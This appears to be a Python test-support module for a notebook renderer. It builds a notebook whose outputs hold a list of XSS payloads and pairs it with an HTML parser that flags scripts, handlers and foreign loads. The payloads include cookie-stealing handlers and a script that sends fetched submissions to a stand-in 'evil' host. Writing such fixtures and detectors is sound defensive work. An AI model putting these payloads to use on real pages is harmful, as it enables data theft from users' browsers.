"""Notebook outputs an attacker would write to run script in a reader's browser, and a scan that finds any that ran."""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from typing import Any

SVG_WITH_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'

# Each HTML output is a classic way to run script or load from elsewhere; the comment says which.
HOSTILE_HTML = [
    "<script>fetch('/api/v1/submissions/').then(r => r.text()).then(t => new Image().src='//evil/'+t)</script>",
    '<img src="x" onerror="alert(document.cookie)">',  # an event handler
    '<a href="javascript:alert(1)">open the results</a>',  # a javascript: URL
    '<a href="JaVaScRiPt&colon;alert(1)">mixed case and an entity</a>',
    SVG_WITH_SCRIPT,  # inline SVG with its own script and handler
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',  # data: HTML in a frame
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">a data: link</a>',
    '<form action="https://evil.example/steal" method="post"><input name="csrfmiddlewaretoken"></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<style>body { background: url("https://evil.example/track") }</style>',
    '<div style="background-image: url(javascript:alert(1))">styled</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',  # mutation XSS
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<button formaction="javascript:alert(1)">go</button>',
]


def hostile_notebook() -> dict[str, Any]:
    """Return an executed notebook whose outputs are every attack above, in every place an output can hold one."""
    outputs: list[dict[str, Any]] = [
        {"output_type": "display_data", "data": {"text/html": html}, "metadata": {}} for html in HOSTILE_HTML
    ]
    outputs += [
        {"output_type": "display_data", "data": {"image/svg+xml": SVG_WITH_SCRIPT}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/png": "not base64 <script>alert(1)</script>"}, "metadata": {}},
        {
            "output_type": "display_data",
            "data": {"image/png": base64.b64encode(b"\x89PNG\r\n\x1a\n").decode() + '"><script>alert(1)</script>'},
            "metadata": {},
        },
        {"output_type": "display_data", "data": {"text/markdown": "[click](javascript:alert(1)) <script>x</script>"}},
        {"output_type": "stream", "name": 'stdout"><script>alert(1)</script>', "text": "<script>alert(1)</script>"},
        {"output_type": "error", "ename": "E", "evalue": "<img src=x onerror=alert(1)>", "traceback": ["<script>"]},
        {"output_type": "execute_result", "data": {"text/plain": "<script>alert(1)</script>"}, "metadata": {}},
    ]
    return {
        "cells": [
            {"cell_type": "markdown", "source": '<script>alert(1)</script><a href="javascript:x">md</a>'},
            {"cell_type": "code", "source": "</pre><script>alert(1)</script>", "outputs": outputs},
        ]
    }


class ActiveContent(HTMLParser):
    """Collect everything in a page that could run script, load from another origin, or restyle it inline."""

    FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "base", "meta", "applet", "math"}
    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}

    def __init__(self, *, notebook: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._notebook = notebook  # a notebook's fragment may hold no <svg>, <form> or <meta> at all
        self._in_head = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "head":
            self._in_head = True
        self._check(tag, dict(attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, dict(attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag == "head":
            self._in_head = False

    def _check(self, tag: str, values: dict[str, str | None]) -> None:
        script_type = (values.get("type") or "text/javascript").lower()
        if tag == "script" and not values.get("src") and ("javascript" in script_type or script_type == "module"):
            self.found.append("an inline <script>")  # a JSON data block (allauth's) is never executed
        if tag == "script" and values.get("src") and not _same_origin(values["src"] or ""):
            self.found.append(f"a script from {values['src']}")
        if tag == "style":
            self.found.append("a <style> element")
        if tag == "svg" and self._notebook:
            self.found.append("inline <svg> from a notebook")
        if tag in self.FORBIDDEN_TAGS and not (tag == "meta" and self._in_head and not self._notebook):
            self.found.append(f"a <{tag}>")
        if tag == "noscript" and self._notebook:  # parsed one way here and another by browsers: mutation XSS
            self.found.append("a <noscript> from a notebook")
        if tag == "form" and self._notebook:
            self.found.append("a <form> from a notebook")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"a handler {name} on <{tag}>")
            if name == "style":
                self.found.append(f"a style attribute on <{tag}>")
            if name in self.URL_ATTRIBUTES and value is not None:
                self._check_url(tag, name, value)

    def _check_url(self, tag: str, name: str, value: str) -> None:
        scheme = value.strip().lower().replace("\t", "").replace("\n", "").split(":", 1)[0] if ":" in value else ""
        if scheme in ("javascript", "vbscript"):
            self.found.append(f"a {scheme}: URL in {name} of <{tag}>")
        elif scheme == "data" and not (tag == "img" and name == "src" and _image_data(value)):
            self.found.append(f"a data: URL in {name} of <{tag}>")
        elif (tag in ("link", "img") and scheme in ("http", "https")) or value.startswith("//"):
            self.found.append(f"{name} of <{tag}> loads from another origin: {value[:60]}")


def _same_origin(url: str) -> bool:
    return url.startswith("/") and not url.startswith("//")


def _image_data(url: str) -> bool:
    """Whether a data: URL is a base64 image of the kinds the renderer makes (an SVG in <img> runs no script)."""
    head, _, payload = url.partition(",")
    if head not in ("data:image/png;base64", "data:image/jpeg;base64", "data:image/svg+xml;base64"):
        return False
    try:
        base64.b64decode(payload, validate=True)
    except ValueError:
        return False
    return True


def active_content(html: str, *, notebook: bool = False) -> list[str]:
    """Return a sentence for each piece of active or foreign content in a page (or a notebook's fragment)."""
    scan = ActiveContent(notebook=notebook)
    scan.feed(html)
    scan.close()
    return scan.found
